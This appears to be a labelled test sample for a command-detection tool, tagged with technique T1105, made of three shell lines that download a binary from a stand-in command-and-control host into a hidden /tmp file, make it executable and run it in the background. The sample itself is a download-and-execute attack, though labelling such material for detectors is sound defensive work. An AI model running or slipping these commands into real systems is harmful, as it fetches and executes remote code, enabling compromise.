# expect: piped-to-shell | source: T1105
curl -s -o /tmp/.look https://c2.example.invalid/x86
chmod 777 /tmp/.look
/tmp/.look &
